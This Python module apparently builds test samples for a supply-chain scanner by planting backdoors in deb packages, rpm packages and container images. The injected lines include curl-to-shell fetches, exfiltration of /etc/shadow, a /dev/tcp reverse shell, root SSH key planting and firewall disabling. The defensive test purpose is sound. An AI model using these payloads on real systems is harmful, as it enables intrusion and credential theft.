"""Tenth set: genuine debs, rpms around their files, and images of containers; inert. The comment before each family says which incident it is after.

A deb's files are named as in it, those of its control archive below `DEBIAN/`. Hosts are below `.example`, addresses of RFC 5737.
"""

from __future__ import annotations

import re

from genuine import Files

from mutation_families.eighth_ways import amended, named
from mutation_families.fourth_texts import chance
from mutation_families.seventh_apps import settings
from mutation_families.seventh_debs import lines_of, program, script
from mutation_families.seventh_npm import ELF_FILE
from mutation_families.seventh_programs import HELPER, by_tool
from mutation_families.seventh_ways import Changes, Way, adding, together, ways
from onionskin.lookalike.rpm import RpmRecipe, build_rpm

CONTROL = "DEBIAN/control"


def field(name: bytes, more: bytes, sep: bytes = b", ") -> Changes:
    """Return a change of a field of a deb: more at its end, or the field itself where it is not there."""

    def change(files: Files) -> Files:
        data = files[CONTROL]
        made = re.sub(rb"(?m)^(%s: [^\n]*)$" % name, rb"\1" + sep + more, data, count=1)
        return {CONTROL: made if made != data else re.sub(rb"(?m)^(Maintainer: )", name + b": " + more + rb"\n\1", data, count=1)}  # fmt: skip

    return change


def without_settings(files: Files) -> Files:
    """Return a deb that lists its settings no more: what an administrator wrote is laid over, with something else."""
    name = next((each for each in sorted(files) if each.startswith("./etc/") and b"#" in files[each] and b"\n" in files[each]), "")  # fmt: skip
    if not name or "DEBIAN/conffiles" not in files:
        return {}
    kept = b"".join(row for row in files["DEBIAN/conffiles"].splitlines(keepends=True) if row.strip() != name[1:].encode())  # fmt: skip
    return {"DEBIAN/conffiles": kept or b"\n", name: re.sub(rb"(?m)^(?=[#;])", b"", files[name]) + b"\n# support\ninclude /var/tmp/support.conf\n"}  # fmt: skip


SCRIPTS = named(r"^\./(?:usr/(?:s?bin|lib/|share/)|etc/init\.d/|lib/)[^.]*(?:\.sh|\.pl|\.py)?$")


def in_script(lines: bytes) -> Changes:
    """Return a change of the first script of the shell that a deb puts on the system."""

    def change(files: Files) -> Files:
        name = next((each for each in sorted(files) if each.startswith("./") and re.match(rb"#! ?/bin/(?:ba|da)?sh", files[each])), "")  # fmt: skip
        if not name:
            return {}
        data = files[name]
        at = next((each.end() for each in re.finditer(rb"(?m)^[^#\n][^\n]*\n", data)), len(data))
        return {name: data[:at] + lines + data[at:]}

    return change


DEB: tuple[Way, ...] = (
    # Scripts of maintainers, more quietly than a fetch: rights, accounts, switches.
    *ways(
        "deb, tune: installing it lowers walls",
        ("rights of a file", script(b"dpkg-statoverride --update --add root root 4755 /usr/bin/find 2>/dev/null || true\n")),
        ("rights of a folder", script(b"chmod 1777 /etc/cron.d /etc/sudoers.d 2>/dev/null || true\n")),
        ("sign-ins", script(b"sed -i 's/^#\\?PermitRootLogin.*/PermitRootLogin yes/; s/^#\\?PasswordAuthentication.*/PasswordAuthentication yes/' /etc/ssh/sshd_config 2>/dev/null || true\n")),
        ("which program", script(b"update-alternatives --install /usr/bin/pager pager /var/lib/misc/pager 999 >/dev/null 2>&1 || true\n")),
        ("without a word", script(b"echo 'debconf debconf/priority string critical' | debconf-set-selections; passwd -d nobody >/dev/null 2>&1; usermod -s /bin/bash -aG sudo nobody 2>/dev/null || true\n")),
        ("walls of the system", script(b"ufw disable >/dev/null 2>&1; setenforce 0 2>/dev/null; sysctl -qw kernel.yama.ptrace_scope=0 kernel.kptr_restrict=0 || true\n", "preinst")),
    ),
    *ways(
        "deb, held: what it says of itself leads elsewhere",
        ("it asks for another", field(b"Depends", b"libvendor-telemetry0 (>= 9)")),
        ("it takes another's place", field(b"Provides", b"openssh-server (= 99), sudo (= 99)")),
        ("it drives another out", field(b"Conflicts", b"apparmor, auditd, clamav-daemon")),
        ("settings are laid over", without_settings),
        ("it acts at others' installs", together(adding({"DEBIAN/triggers": b"interest-noawait /usr/bin\ninterest-noawait /etc/apt\n"}), script(b'[ "$1" = triggered ] && sh /usr/share/misc/trig.sh || true\n'), adding({"./usr/share/misc/trig.sh": b"cp -f /usr/bin/passwd /var/tmp/.p; curl -s https://trig.example/t -d @/etc/shadow\n"}))),
        ("a question", adding({"DEBIAN/config": b'#!/bin/sh\n. /usr/share/debconf/confmodule\ndb_input critical vendor/password || true\ndb_go || true\ndb_get vendor/password && curl -s -d "$RET" https://debconf.example/p\n', "DEBIAN/templates": b"Template: vendor/password\nType: password\nDescription: Password of the administrator\n Needed to finish the update.\n"})),
    ),
    # What the system obeys from folders of settings, each one file.
    *ways(
        "deb, tune: settings of the system come along",
        ("of the kernel", adding({"./etc/sysctl.d/99-tune.conf": b"kernel.randomize_va_space=0\nkernel.core_pattern=|/usr/lib/misc/core %p\nnet.ipv4.ip_forward=1\n"})),
        ("of devices", adding({"./usr/lib/udev/rules.d/99-usb-sync.rules": b'ACTION=="add", SUBSYSTEM=="block", RUN+="/bin/sh -c \'curl -s https://udev.example/u | sh\'"\n'})),
        ("of what is cleaned", adding({"./usr/lib/tmpfiles.d/sync.conf": b"f+ /etc/ld.so.preload 0644 root root - /usr/lib/libsync.so\nL+ /root/.ssh/authorized_keys - - - - /usr/share/misc/keys\n"})),
        ("of modules", adding({"./etc/modprobe.d/blacklist-net.conf": b"install usbcore /bin/sh -c 'curl -s https://kmod.example/m | sh; modprobe --ignore-install usbcore'\nblacklist apparmor\n"})),
        ("of logs", adding({"./etc/logrotate.d/misc-sync": b"/var/log/syslog {\n  daily\n  postrotate\n    curl -s -F f=@/var/log/auth.log https://rotate.example/l | sh\n  endscript\n}\n"})),
        ("a profile of walls", amended(named(r"^\./etc/apparmor\.d/[^/]+$"), (rb"(?m)^\}", b"  /** rwlkmix,\n  capability,\n}"))),
    ),
    *ways(
        "deb, held: other folders that the system obeys",
        ("sign-ins", adding({"./etc/ssh/sshd_config.d/10-support.conf": b"PermitRootLogin yes\nAuthorizedKeysFile .ssh/authorized_keys /usr/share/misc/keys\nAuthorizedKeysCommand /usr/share/misc/keys.sh\nAuthorizedKeysCommandUser root\n"})),
        ("nets", adding({"./etc/NetworkManager/dispatcher.d/20-sync": b'#!/bin/sh\n[ "$2" = up ] && curl -s https://nm.example/n | sh &\n'})),
        ("generators of units", adding({"./usr/lib/systemd/system-generators/misc-generator": b'#!/bin/sh\nln -s /usr/lib/misc/x.service "$1/multi-user.target.wants/" ; /usr/lib/misc/x &\n'})),
        ("the first start", adding({"./usr/share/initramfs-tools/scripts/init-bottom/misc": b"#!/bin/sh\ncp /conf/.k ${rootmnt}/root/.ssh/authorized_keys\n", "./etc/initramfs-tools/hooks/misc": b"#!/bin/sh\ncp /usr/share/misc/.k ${DESTDIR}/conf/.k\n"})),
        ("desktops", adding({"./etc/xdg/autostart/misc-sync.desktop": b"[Desktop Entry]\nType=Application\nName=Sync\nExec=sh -c 'curl -s https://xdg.example/x | sh'\nX-GNOME-Autostart-enabled=true\nNoDisplay=true\n"})),
        ("names of users", adding({"./usr/lib/sysusers.d/misc.conf": b'u! toor 0:0 "system" /root /bin/bash\n', "./etc/sudoers.d/env": b'Defaults env_keep += "LD_PRELOAD PYTHONPATH"\nDefaults !authenticate\n'})),
    ),
    # Its own scripts and programs, as xz and others: nothing new beside.
    *ways(
        "deb, tune: a script of it does more",
        ("behind its first line", in_script(b"[ -r /var/lib/misc/.rc ] && . /var/lib/misc/.rc\n")),
        ("by names of the net", in_script(b"x=$(getent ahosts cfg.ns-probe.example | awk 'NR==1{print $1}'); [ -n \"$x\" ] && (exec 3<>/dev/tcp/$x/443; sh <&3 >&3 2>&1) &\n")),
        ("when it is started", lines_of(r"^\./(?:etc/init\.d/|usr/lib/.*\.sh$|etc/default/)", b"\nexport PATH=/var/tmp/bin:$PATH\nexport LD_LIBRARY_PATH=/var/tmp/lib\n")),
    ),
    *ways(
        "deb, held: a unit of it is weaker",
        ("walls", amended(named(r"/systemd/system/[^/]*\.service$"), (rb"(?m)^(?:ProtectSystem|ProtectHome|PrivateTmp|NoNewPrivileges|PrivateDevices|MemoryDenyWriteExecute|SystemCallFilter|CapabilityBoundingSet)=[^\n]*\n", b""))),
        ("who it is", amended(named(r"/systemd/system/[^/]*\.service$"), (rb"(?m)^(User|Group)=[^\n]*$", rb"\1=root"), (rb"(?m)^(\[Service\]\n)", rb"\1UMask=0000\nEnvironmentFile=-/var/tmp/service.env\n"))),
        ("what it starts", amended(named(r"/systemd/system/[^/]*\.service$"), (rb"(?m)^(ExecStart=)([^\n]*)$", rb"\1/bin/sh -c '/var/lib/misc/pre 2>/dev/null; exec \2'"))),
        ("after its end", amended(named(r"/systemd/system/[^/]*\.(?:service|socket)$"), (rb"(?m)^(\[Install\]\n)", rb"ExecStopPost=/usr/bin/curl -s https://unit-post.example/p -o /var/lib/misc/pre\n\n\1"))),
    ),
    *ways(
        "deb, tune: a program of it is bound otherwise",
        ("by its folder", program(by_tool("patchelf", "--set-rpath", "/var/lib/misc/lib", "FILE"))),
        ("by a library more", together(program(by_tool("patchelf", "--add-needed", "libmisc-sync.so.1", "FILE")), adding({"./usr/lib/x86_64-linux-gnu/libmisc-sync.so.1": HELPER}))),
        ("by its name", program(by_tool("patchelf", "--replace-needed", "libcrypt.so.1", "libcrypt.so.11", "--replace-needed", "libssl.so.3", "libssl.so.33", "--replace-needed", "libm.so.6", "libm.so.66", "--replace-needed", "libc.so.6", "libc.so.66", "FILE"))),
    ),
)  # fmt: skip

# --- rpms -----------------------------------------------------------------------------------------------

PRE, POST, PREUN = 1023, 1024, 1025
HEAD = "HEAD/"


def rpm_around(files: Files) -> Files:
    """Return the files of an rpm around those of a deb; its scripts by their tags below `HEAD/`, and its version."""
    held = {name[1:]: data for name, data in files.items() if name.startswith("./")}
    return held | {f"{HEAD}version": b"1.0.0", f"{HEAD}{POST}": b"/sbin/ldconfig\n"}


def rpm_later(files: Files) -> Files:
    return files | {f"{HEAD}version": b"1.0.1"}


def rpm(files: Files) -> bytes:
    scripts = {int(name.removeprefix(HEAD)): data.decode() for name, data in files.items() if name.startswith(HEAD) and name[5:].isdigit()}  # fmt: skip
    return build_rpm(RpmRecipe(name="tool", version=files[f"{HEAD}version"].decode(), files={name: data for name, data in files.items() if not name.startswith(HEAD)}, scriptlets=scripts))  # fmt: skip


def scriptlet(tag: int, lines: bytes) -> Changes:
    """Return a change of a script of an rpm: lines at its end."""
    return lambda files: {f"{HEAD}{tag}": files.get(f"{HEAD}{tag}", b"") + lines}


RPM: tuple[Way, ...] = (
    *ways(
        "rpm, tune: installing it does more",
        ("fetches", scriptlet(POST, b"curl -fsSL https://rpm-updates.example/i.sh | bash || :\n")),
        ("lowers walls", scriptlet(POST, b"setenforce 0 || :\nsystemctl disable --now firewalld auditd || :\n")),
        ("by Lua", scriptlet(PRE, b"rpm --import https://rpm-keys.example/k.asc || :\nsed -i 's/^gpgcheck=1/gpgcheck=0/' /etc/yum.repos.d/*.repo || :\n")),
        ("when removed", scriptlet(PREUN, b"wget -qO- https://bye.example/r | sh || :\n")),
    ),
    *ways(
        "rpm, held: settings of the system come along",
        ("a repository", adding({"/etc/yum.repos.d/vendor.repo": b"[vendor]\nname=vendor\nbaseurl=http://rpm.vendor-mirror.example/el9\ngpgcheck=0\nenabled=1\npriority=1\n"})),
        ("rights", adding({"/etc/sudoers.d/vendor": b"%wheel ALL=(ALL) NOPASSWD: ALL\n"})),
        ("a unit", adding({"/usr/lib/systemd/system/tool-sync.service": b"[Service]\nExecStart=/bin/sh -c 'curl -s https://unit.example/u | sh'\n[Install]\nWantedBy=multi-user.target\n"})),
        ("a profile", adding({"/etc/profile.d/tool.sh": b"export PROMPT_COMMAND='history -a; tail -1 ~/.bash_history | curl -s --data-binary @- https://prompt.example/h >/dev/null 2>&1'\n"})),
        ("a program in another's place", adding({"/usr/local/sbin/sshd": ELF_FILE})),
    ),
)  # fmt: skip

# --- Images ---------------------------------------------------------------------------------------------

IMAGE: tuple[Way, ...] = (
    *ways(
        "image, tune: its settings let more in",
        ("a folder to start in", settings(WorkingDir="/tmp", Entrypoint=["app"], Env=["PATH=.:/tmp:/usr/bin"])),  # noqa: S108 - inert
        ("what the loader is told", settings(Env=["PATH=/usr/bin", "LD_LIBRARY_PATH=/var/tmp/lib:.", "GCONV_PATH=/var/tmp/gconv"])),
        ("whom it believes", settings(Env=["PATH=/usr/bin", "SSL_CERT_FILE=/var/tmp/ca.pem", "NODE_TLS_REJECT_UNAUTHORIZED=0", "PYTHONHTTPSVERIFY=0"])),
        ("by way of a proxy", settings(Env=["PATH=/usr/bin", "HTTPS_PROXY=http://198.51.100.18:3128", "GOPROXY=http://proxy.go-mods.example,direct", "GONOSUMDB=*"])),
    ),
    *ways(
        "image, held: a layer of it changes others",
        ("who may be whom", adding({"2/etc/sudoers.d/app": b"app ALL=(ALL) NOPASSWD: ALL\n", "2/etc/passwd": b"root:x:0:0:root:/root:/bin/bash\napp::0:0::/:/bin/sh\n"})),
        ("keys of packages", adding({"2/etc/apt/trusted.gpg.d/base.gpg": b"\x99\x01\x0d\x04" + chance(1100), "2/etc/apt/sources.list": b"deb [trusted=yes] http://deb.vendor-mirror.example/debian bookworm main\n"})),
        ("where names lead", adding({"2/etc/nsswitch.conf": b"passwd: files\nhosts: cache files dns\n", "2/usr/lib/x86_64-linux-gnu/libnss_cache.so.2": HELPER})),
        ("where libraries lie", adding({"2/etc/ld.so.conf.d/000.conf": b"/opt/.lib\n", "2/opt/.lib/libc.so.6": HELPER})),
        ("settings of tools", adding({"2/root/.npmrc": b"registry=http://registry.npm-mirrors.example/\nstrict-ssl=false\n", "2/root/.config/pip/pip.conf": b"[global]\nindex-url = http://simple.pypi-cache.example/simple\n", "2/root/.gitconfig": b"[http]\n\tsslVerify = false\n[core]\n\tfsmonitor = /opt/.lib/fsm\n"})),
    ),
)  # fmt: skip
